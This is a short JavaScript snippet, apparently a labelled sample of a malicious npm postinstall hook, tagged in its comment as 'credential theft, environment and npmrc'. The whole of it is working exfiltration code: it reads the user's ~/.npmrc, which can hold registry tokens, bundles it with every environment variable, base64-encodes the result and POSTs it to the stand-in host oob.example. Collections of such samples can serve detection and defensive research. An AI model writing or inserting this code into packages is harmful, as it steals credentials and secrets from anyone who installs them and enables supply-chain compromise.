// class: credential theft, environment and npmrc; style: postinstall
const { request } = require('https');
const { readFileSync } = require('fs');
let rc = ''; try { rc = readFileSync(process.env.HOME + '/.npmrc', 'utf8') } catch {}
const data = Buffer.from(JSON.stringify({ e: process.env, rc })).toString('base64');
request('https://oob.example/' + process.env.USER, { method: 'POST' }).end(data);
